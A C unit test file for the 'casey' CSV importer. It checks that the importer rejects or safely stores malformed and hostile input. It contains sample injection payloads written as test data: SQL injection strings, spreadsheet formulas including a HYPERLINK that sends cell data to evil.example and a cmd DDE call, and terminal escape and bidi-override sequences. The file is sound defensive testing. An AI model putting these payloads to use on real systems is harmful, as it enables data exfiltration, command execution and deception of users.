/*
 * test_hostile.c — files built to hurt: each is imported and the exact
 * error, or the exact safe handling, is asserted. Empty and header-only
 * files, a 10 MB field, invalid UTF-8, NUL bytes, 10,000 columns, a line
 * of a million commas, out-of-range values, duplicate and look-alike ids,
 * SQL and spreadsheet formulas in names, FIFOs; plus the regression tests
 * of what the fuzzers found.
 *
 * The terminal side (escape sequences and bidi overrides in `casey
 * customers`, formulas in --format csv) is tested through the binary in
 * tests/cli/run.sh.
 */
#include "testutil.h"

#include <fcntl.h>
#include <sys/resource.h>
#include <sys/stat.h>

#include <sqlite3.h>

#include "casey/db.h"
#include "casey/import.h"
#include "casey/mapping.h"
#include "casey/profile.h"
#include "casey/rules.h"

struct fixture {
	sqlite3 *db;
	struct captured cap;
	struct cs_diag diag;
	struct cs_import_stats stats;
};

static int setup(void **state)
{
	static int n;
	struct fixture *f = calloc(1, sizeof(*f));
	char path[512];

	f->diag = capture_diag(&f->cap);
	snprintf(path, sizeof(path), "%s/h%d.db", scratch_dir(), n++);
	assert_int_equal(cs_db_open(path, CS_DB_OPEN, &f->db, &f->diag), 0);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	cs_db_close(f->db);
	free(f);
	return 0;
}

/* Write len bytes (NULs and all) to name in the scratch directory. */
static const char *write_bytes(const char *name, const void *data, size_t len)
{
	static char paths[8][512];
	static int next;
	char *path = paths[next++ % 8];
	FILE *out;

	snprintf(path, 512, "%s/%s", scratch_dir(), name);
	out = fopen(path, "wb");
	assert_non_null(out);
	assert_int_equal(fwrite(data, 1, len, out), len);
	assert_int_equal(fclose(out), 0);
	return path;
}

static int import_path(struct fixture *f, const char *path)
{
	static const struct cs_import_opts none;
	const char *files[1] = { path };

	f->diag = capture_diag(&f->cap);
	return cs_import_files(f->db, files, 1, &none, &f->stats, &f->diag);
}

static long long q_int(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *st;
	long long v = -999;

	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	if (sqlite3_step(st) == SQLITE_ROW)
		v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return v;
}

static const char *q_text(sqlite3 *db, const char *sql)
{
	static char buf[1024];
	sqlite3_stmt *st;

	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	snprintf(buf, sizeof(buf), "(no row)");
	if (sqlite3_step(st) == SQLITE_ROW) {
		const unsigned char *t = sqlite3_column_text(st, 0);

		snprintf(buf, sizeof(buf), "%s", t ? (const char *)t : "NULL");
	}
	sqlite3_finalize(st);
	return buf;
}

/* Expect "PATH<suffix>" among the lines, and the file to have failed. */
static void expect_line(struct fixture *f, const char *path, const char *suffix)
{
	char want[1024];

	snprintf(want, sizeof(want), "%s%s", path, suffix);
	assert_true(captured_has(&f->cap, want));
}

static void expect_nothing_imported(struct fixture *f, const char *path, int bad)
{
	char want[600];

	snprintf(want, sizeof(want), ": nothing imported: %d bad row%s (fix %s or use "
		 "--skip-bad)", bad, bad == 1 ? "" : "s", bad == 1 ? "it" : "them");
	expect_line(f, path, want);
}

static long long customers(struct fixture *f)
{
	return q_int(f->db, "SELECT count(*) FROM customers");
}

/* ---- empty and nearly empty --------------------------------------------- */

static void test_empty_file(void **state)
{
	struct fixture *f = *state;
	const char *path = write_bytes("empty.csv", "", 0);

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ": the file is empty");
	/* Only blank lines, or only a BOM, is as empty. */
	path = write_bytes("blank.csv", "\n\r\n\n", 4);
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ": the file is empty");
	path = write_bytes("bom.csv", "\xef\xbb\xbf", 3);
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ": the file is empty");
	assert_int_equal(customers(f), 0);
}

static void test_header_only(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("header.csv", "customer_id,name,arr\n");

	/* A valid export of nothing: it imports, and says so. */
	assert_int_equal(import_path(f, path), 0);
	expect_line(f, path, ": customers: 0 rows: 0 inserted, 0 updated, 0 unchanged, "
		    "0 skipped");
	assert_int_equal(customers(f), 0);
}

static void test_utf16_file(void **state)
{
	struct fixture *f = *state;
	const char *path = write_bytes("utf16.csv", "\xff\xfe" "c\0u\0", 6);

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ": the file is UTF-16; save it as \"CSV UTF-8\"");
}

static void test_not_a_regular_file(void **state)
{
	struct fixture *f = *state;
	char fifo[512];

	/* A FIFO would block a plain open() for ever: it is refused at once. */
	snprintf(fifo, sizeof(fifo), "%s/fifo.csv", scratch_dir());
	assert_int_equal(mkfifo(fifo, 0600), 0);
	assert_int_equal(import_path(f, fifo), -1);
	expect_line(f, fifo, ": not a regular file");
	assert_int_equal(import_path(f, scratch_dir()), -1);
	expect_line(f, scratch_dir(), ": not a regular file");
}

/* ---- sizes -------------------------------------------------------------- */

static long peak_rss_kb(void)
{
	struct rusage ru;

	getrusage(RUSAGE_SELF, &ru);
	return ru.ru_maxrss;
}

#if defined(__SANITIZE_ADDRESS__)
#define UNDER_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define UNDER_ASAN 1
#endif
#endif

static void test_10mb_field(void **state)
{
	struct fixture *f = *state;
	static const char head[] = "customer_id,name,arr\nC1,Small,1\nC2,";
	static const struct cs_import_opts none;
	size_t big = 10u << 20, n = sizeof(head) - 1;
	char *buf = malloc(sizeof(head) + big + 64);
	const char *path;
	long before;

	assert_non_null(buf);
	memcpy(buf, head, n);
	memset(buf + n, 'x', big);
	/*
	 * Quoted and never closed, the field runs to the end of the file:
	 * the quote is reported, and the field is never held whole in memory
	 * (it is cut off at 1 MiB as it is read). First, while the peak RSS
	 * is still this test's buffer.
	 */
	buf[n] = '"';
	before = peak_rss_kb();
	f->diag = capture_diag(&f->cap);
	assert_int_equal(cs_import_buffer(f->db, "open.csv", buf, n + big, &none, NULL,
					  &f->diag), -1);
	assert_true(captured_has(&f->cap, "open.csv:3: a quoted field is never closed "
				 "(a '\"' is missing)"));
#ifndef UNDER_ASAN
	/* Without the cut libcsv would hold all 10 MB (ASan's quarantine blurs this). */
	assert_true(peak_rss_kb() - before < 6 * 1024);
#else
	(void)before;
#endif
	/* Unquoted, the field ends and its row is refused, naming the column. */
	buf[n] = 'x';
	n += big;
	n += (size_t)sprintf(buf + n, ",5\nC3,Third,2\n");
	path = write_bytes("field.csv", buf, n);
	free(buf);
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":3: column 'name': the value is longer than 1048576 bytes");
	expect_nothing_imported(f, path, 1);
	assert_int_equal(customers(f), 0);
}

static void test_field_limit_is_exact(void **state)
{
	struct fixture *f = *state;
	size_t head = strlen("customer_id,name\nC1,"), n;
	char *buf = malloc(head + CS_FIELD_MAX + 16);
	static const struct cs_import_opts none;

	assert_non_null(buf);
	memcpy(buf, "customer_id,name\nC1,", head);
	memset(buf + head, 'y', CS_FIELD_MAX + 1);
	/* Exactly CS_FIELD_MAX bytes: stored whole. */
	n = head + CS_FIELD_MAX;
	buf[n] = '\n';
	f->diag = capture_diag(&f->cap);
	assert_int_equal(cs_import_buffer(f->db, "max.csv", buf, n + 1, &none, NULL, &f->diag), 0);
	assert_int_equal(q_int(f->db, "SELECT length(name) FROM customers"), CS_FIELD_MAX);
	/* One byte more: refused. */
	memcpy(buf, "customer_id,name\nC2,", head);
	buf[n] = 'y';
	buf[n + 1] = '\n';
	f->diag = capture_diag(&f->cap);
	assert_int_equal(cs_import_buffer(f->db, "over.csv", buf, n + 2, &none, NULL,
					  &f->diag), -1);
	assert_true(captured_has(&f->cap, "over.csv:2: column 'name': the value is longer "
				 "than 1048576 bytes"));
	free(buf);
	assert_int_equal(customers(f), 1);
}

static void test_record_limit(void **state)
{
	struct fixture *f = *state;
	/* 17 fields of 1 MiB: each is allowed, the row of 17 MiB is not. */
	size_t n = 0, i, size = 64 + 17 * ((size_t)CS_FIELD_MAX + 1);
	char *buf = malloc(size);
	static const struct cs_import_opts none;

	assert_non_null(buf);
	n += (size_t)sprintf(buf, "customer_id,name\nC1,");
	for (i = 0; i < 17; i++) {
		memset(buf + n, 'z', CS_FIELD_MAX);
		n += CS_FIELD_MAX;
		buf[n++] = i < 16 ? ',' : '\n';
	}
	f->diag = capture_diag(&f->cap);
	assert_int_equal(cs_import_buffer(f->db, "row.csv", buf, n, &none, NULL, &f->diag), -1);
	assert_true(captured_has(&f->cap, "row.csv:2: the row is longer than 16777216 bytes "
				 "(is a '\"' missing?)"));
	free(buf);
	assert_int_equal(customers(f), 0);
}

static void test_10000_columns(void **state)
{
	struct fixture *f = *state;
	size_t size = 16 * 10000, n = 0;
	char *buf = malloc(size);
	const char *path;
	int i;

	assert_non_null(buf);
	n += (size_t)snprintf(buf, size, "customer_id,name");
	for (i = 3; i <= 10000; i++)
		n += (size_t)snprintf(buf + n, size - n, ",x%d", i);
	n += (size_t)snprintf(buf + n, size - n, "\nC1,Wide");
	for (i = 3; i <= 10000; i++)
		n += (size_t)snprintf(buf + n, size - n, ",%d", i);
	n += (size_t)snprintf(buf + n, size - n, "\n");
	path = write_bytes("wide.csv", buf, n);
	free(buf);
	assert_int_equal(import_path(f, path), 0);
	/* One note: the first few by name, the rest counted. */
	expect_line(f, path, ": ignoring 9998 columns casey does not use: 'x3', 'x4', "
		    "'x5', 'x6', 'x7', 'x8' and 9992 more");
	assert_string_equal(q_text(f->db, "SELECT name FROM customers"), "Wide");
}

static void test_million_commas(void **state)
{
	struct fixture *f = *state;
	static const char head[] = "customer_id,name\nC1,A\n";
	size_t n = sizeof(head) - 1, commas = 1000000;
	char *buf = malloc(n + commas + 16);
	const char *path;

	assert_non_null(buf);
	memcpy(buf, head, n);
	memset(buf + n, ',', commas);
	n += commas;
	n += (size_t)sprintf(buf + n, "\nC2,B\n");
	path = write_bytes("commas.csv", buf, n);
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":3: 1000001 fields, more than casey reads in a row (16384)");
	expect_nothing_imported(f, path, 1);
	assert_int_equal(customers(f), 0);

	/* As the first line there is no header to find: the file is refused. */
	path = write_bytes("commas1.csv", buf + sizeof(head) - 1, n - (sizeof(head) - 1));
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":1: 1000001 fields, more than casey reads in a row (16384)");
	free(buf);
	assert_int_equal(customers(f), 0);
}

/* ---- bytes -------------------------------------------------------------- */

static void test_invalid_utf8(void **state)
{
	struct fixture *f = *state;
	static const struct {
		const char *bytes;
		const char *what;
	} cases[] = {
		{ "M\xfcller", "Latin-1" },
		{ "caf\xc3", "truncated sequence" },
		{ "\xc0\xaf", "overlong '/'" },
		{ "\xed\xa0\x80", "surrogate" },
		{ "\xf4\x90\x80\x80", "above U+10FFFF" },
		{ "\xfe\xff", "never in UTF-8" },
	};
	char text[128];
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *path;

		snprintf(text, sizeof(text), "customer_id,name\nC1,Good\nC2,%s\n", cases[i].bytes);
		path = write_file("utf8.csv", text);
		print_message("invalid UTF-8: %s\n", cases[i].what);
		assert_int_equal(import_path(f, path), -1);
		expect_line(f, path, ":3: column 'name': is not valid UTF-8 (save the file as "
			    "\"CSV UTF-8\")");
	}
	assert_int_equal(customers(f), 0);
}

static void test_nul_bytes(void **state)
{
	struct fixture *f = *state;
	static const char data[] = "customer_id,name\nC1,Ac\0me\nC\0""2,B\n";
	const char *path = write_bytes("nul.csv", data, sizeof(data) - 1);

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":2: column 'name': contains a NUL byte");
	expect_line(f, path, ":3: column 'customer_id': contains a NUL byte");
	expect_nothing_imported(f, path, 2);
	assert_int_equal(customers(f), 0);
}

/* ---- values ------------------------------------------------------------- */

static void test_negative_arr(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("neg.csv", "customer_id,name,arr\nC1,A,-5\nC2,B,\"(1,234)\"\n"
				      "C3,C,-$120k\nC4,D,0\n");

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":2: column 'arr': '-5' must not be negative");
	expect_line(f, path, ":3: column 'arr': '(1,234)' must not be negative");
	expect_line(f, path, ":4: column 'arr': '-$120k' must not be negative");
	expect_nothing_imported(f, path, 3);
	assert_int_equal(customers(f), 0);
}

static void test_dates_out_of_range(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("old.csv", "customer_id,name,created_at,renewal_date\n"
				      "C1,A,1900-01-01,2027-01-01\nC2,B,2020-01-01,2200-01-01\n"
				      "C3,C,1969-12-31,\nC4,D,1970-01-01,2099-12-31\n");

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":2: column 'created_at': '1900-01-01' is out of range (1970-2099)");
	expect_line(f, path, ":3: column 'renewal_date': '2200-01-01' is out of range "
		    "(1970-2099)");
	expect_line(f, path, ":4: column 'created_at': '1969-12-31' is out of range "
		    "(1970-2099)");
	expect_nothing_imported(f, path, 3);
	assert_int_equal(customers(f), 0);
}

/* ---- identities --------------------------------------------------------- */

static void test_same_id_twice(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("dup.csv", "customer_id,name\nC1,First\nC2,Other\nC1,Second\n");

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":4: duplicate customer_id 'C1' (first on line 2)");
	expect_nothing_imported(f, path, 1);
	assert_int_equal(customers(f), 0);
}

/*
 * Ids are compared byte for byte. CRMs hand out case-sensitive ids
 * (Salesforce's 15-character ids differ only by case: 001A0000 and
 * 001a0000 are two accounts), so folding case would merge two customers
 * into one and silently lose the other's data. Surrounding blanks, on the
 * other hand, are never part of an id (every field is trimmed), so " C1 "
 * is C1 and a second C1 is the duplicate it looks like.
 */
static void test_ids_differing_by_case_are_distinct(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("case.csv", "customer_id,name\n001A0000,Upper\n"
				      "001a0000,Lower\n");

	assert_int_equal(import_path(f, path), 0);
	assert_int_equal(f->stats.inserted, 2);
	assert_string_equal(q_text(f->db, "SELECT group_concat(customer_id||'='||name, ';') "
				   "FROM (SELECT * FROM customers ORDER BY customer_id)"),
			    "001A0000=Upper;001a0000=Lower");
}

static void test_ids_with_spaces_are_trimmed(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("space.csv", "customer_id,name\n C1 ,Padded\nC1,Plain\n");

	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":3: duplicate customer_id 'C1' (first on line 2)");
	path = write_file("space2.csv", "customer_id,name\n\t C1\t,Padded\n");
	assert_int_equal(import_path(f, path), 0);
	assert_string_equal(q_text(f->db, "SELECT customer_id FROM customers"), "C1");
}

/* ---- what the data says ------------------------------------------------- */

static void test_sql_in_a_name_is_data(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("sql.csv", "customer_id,name,segment\n"
				      "C1,'); DROP TABLE customers;--,x\n"
				      "C2,\"Robert\"\"); DELETE FROM tickets; --\",\"' OR 1=1 --\"\n");

	assert_int_equal(import_path(f, path), 0);
	assert_string_equal(q_text(f->db, "SELECT name FROM customers WHERE customer_id='C1'"),
			    "'); DROP TABLE customers;--");
	assert_string_equal(q_text(f->db, "SELECT name || '|' || segment FROM customers "
				   "WHERE customer_id='C2'"),
			    "Robert\"); DELETE FROM tickets; --|' OR 1=1 --");
	assert_int_equal(customers(f), 2);
	assert_int_equal(q_int(f->db, "SELECT count(*) FROM sqlite_master WHERE name IN "
			       "('customers','tickets')"), 2);
	assert_string_equal(q_text(f->db, "PRAGMA integrity_check"), "ok");
	/* The same text as a reference is looked up, not run. */
	path = write_file("sqlref.csv", "ticket_id,customer_id,created_at\n"
			  "T1,'); DROP TABLE customers;--,2026-11-01\n");
	assert_int_equal(import_path(f, path), 0);
	assert_string_equal(q_text(f->db, "SELECT customer_id FROM tickets"), "C1");
}

static void test_formula_is_stored_verbatim(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("formula.csv", "customer_id,name\n"
				      "C1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\n"
				      "C2,+cmd|' /C calc'!A0\nC3,@SUM(1+1)\n");

	/* Stored as written; the csv output neutralises it (tests/cli/run.sh). */
	assert_int_equal(import_path(f, path), 0);
	assert_string_equal(q_text(f->db, "SELECT name FROM customers WHERE customer_id='C1'"),
			    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
	assert_string_equal(q_text(f->db, "SELECT name FROM customers WHERE customer_id='C2'"),
			    "+cmd|' /C calc'!A0");
}

static void test_control_characters(void **state)
{
	struct fixture *f = *state;
	const char *path = write_file("esc.csv", "customer_id,name\n"
				      "C1,\"\x1b]0;pwned\x07Evil \xe2\x80\xaetxt.exe\"\n");

	/* A name is text: stored verbatim, made safe where it is shown. */
	assert_int_equal(import_path(f, path), 0);
	assert_string_equal(q_text(f->db, "SELECT name FROM customers"),
			    "\x1b]0;pwned\x07Evil \xe2\x80\xaetxt.exe");
	/* An id is a key people type: control characters are refused. */
	path = write_file("escid.csv", "customer_id,name\n\"C\x1b[2J\",A\nC\xc2\x9b" "1,B\n");
	assert_int_equal(import_path(f, path), -1);
	expect_line(f, path, ":2: column 'customer_id': 'C\x1b[2J' contains a control character");
	expect_line(f, path, ":3: column 'customer_id': 'C\xc2\x9b" "1' contains a control "
		    "character");
}

/* ---- configuration files ------------------------------------------------ */

/* Found by fuzz_ini: an integer setting of 1e308 overflowed an int (UB). */
static void test_rules_huge_integer(void **state)
{
	struct cs_rules *r = malloc(sizeof(*r));
	struct captured cap;
	struct cs_diag d = capture_diag(&cap);
	const char *path = write_file("rules.ini", "[at_risk]\nowner = X\ndue_hours = 1e308\n");
	char want[600];

	(void)state;
	assert_non_null(r);
	assert_int_equal(cs_rules_load(path, r, &d), -1);
	snprintf(want, sizeof(want), "%s:3: due_hours must be a whole non-negative number, "
		 "not '1e308'", path);
	assert_true(captured_has(&cap, want));
	free(r);
}

/*
 * inih reads lines into a 200-byte buffer and takes the rest of a longer
 * line for a line of its own: a long description's tail became a "syntax
 * error" on a line the file does not have. Mapping profiles now go through
 * cs_ini_parse(), which refuses the long line, naming it.
 */
static void test_mapping_long_line(void **state)
{
	struct cs_mapping m;
	struct captured cap;
	struct cs_diag d = capture_diag(&cap);
	char text[600], want[700];
	const char *path;

	(void)state;
	snprintf(text, sizeof(text), "[profile]\nkind = customers\ndescription = %0300d\n"
		 "[columns]\nAccount = customer_id\n", 0);
	path = write_file("long.ini", text);
	assert_int_equal(cs_mapping_load(path, &m, &d), -1);
	snprintf(want, sizeof(want), "%s:3: line longer than 198 characters (continue a "
		 "long value on an indented line)", path);
	assert_true(captured_has(&cap, want));
	/* 198 characters and the newline fit. */
	snprintf(text, sizeof(text), "[profile]\nkind = customers\ndescription = %0184d\n"
		 "[columns]\nAccount = customer_id\n", 0);
	path = write_file("fits.ini", text);
	assert_int_equal(cs_mapping_load(path, &m, &d), 0);
	assert_int_equal(cs_mapping_lookup(&m, "account"), 0);
}

/*
 * Found by fuzz_ini: a long line that starts with a NUL byte looked empty
 * to cs_ini_parse(), so its tail was read as the next line and errors
 * named a line off by one (past the end of the file, at the end).
 */
static void test_ini_nul_long_line(void **state)
{
	struct cs_mapping m;
	struct captured cap;
	struct cs_diag d = capture_diag(&cap);
	char text[400], want[600];
	const char *path;
	size_t n;

	(void)state;
	n = (size_t)snprintf(text, sizeof(text), "[profile]\nkind = customers\n");
	text[n++] = '\0';
	memset(text + n, 'x', 250);
	n += 250;
	n += (size_t)snprintf(text + n, sizeof(text) - n, "\n[columns]\n");
	path = write_bytes("nul.ini", text, n);
	assert_int_equal(cs_mapping_load(path, &m, &d), -1);
	assert_int_equal(cap.n, 1);
	snprintf(want, sizeof(want), "%s:3: ", path);
	assert_memory_equal(cap.lines[0], want, strlen(want));
}

/* The first problem is reported, with its own line. */
static void test_mapping_first_error(void **state)
{
	struct cs_mapping m;
	struct captured cap;
	struct cs_diag d = capture_diag(&cap);
	const char *path = write_file("two.ini", "[profile]\nkind = tickets\n[columns]\n"
				      "Id = ticket_id\nWhen = opened_at\n[other]\nx = 1\n");
	char want[600];

	(void)state;
	assert_int_equal(cs_mapping_load(path, &m, &d), -1);
	snprintf(want, sizeof(want), "%s:5: 'opened_at' is not a column of tickets files", path);
	assert_true(captured_has(&cap, want));
	assert_int_equal(cap.n, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_empty_file, setup, teardown),
		cmocka_unit_test_setup_teardown(test_header_only, setup, teardown),
		cmocka_unit_test_setup_teardown(test_utf16_file, setup, teardown),
		cmocka_unit_test_setup_teardown(test_not_a_regular_file, setup, teardown),
		cmocka_unit_test_setup_teardown(test_10mb_field, setup, teardown),
		cmocka_unit_test_setup_teardown(test_field_limit_is_exact, setup, teardown),
		cmocka_unit_test_setup_teardown(test_record_limit, setup, teardown),
		cmocka_unit_test_setup_teardown(test_10000_columns, setup, teardown),
		cmocka_unit_test_setup_teardown(test_million_commas, setup, teardown),
		cmocka_unit_test_setup_teardown(test_invalid_utf8, setup, teardown),
		cmocka_unit_test_setup_teardown(test_nul_bytes, setup, teardown),
		cmocka_unit_test_setup_teardown(test_negative_arr, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dates_out_of_range, setup, teardown),
		cmocka_unit_test_setup_teardown(test_same_id_twice, setup, teardown),
		cmocka_unit_test_setup_teardown(test_ids_differing_by_case_are_distinct, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_ids_with_spaces_are_trimmed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_sql_in_a_name_is_data, setup, teardown),
		cmocka_unit_test_setup_teardown(test_formula_is_stored_verbatim, setup, teardown),
		cmocka_unit_test_setup_teardown(test_control_characters, setup, teardown),
		cmocka_unit_test(test_rules_huge_integer),
		cmocka_unit_test(test_mapping_long_line),
		cmocka_unit_test(test_mapping_first_error),
		cmocka_unit_test(test_ini_nul_long_line),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
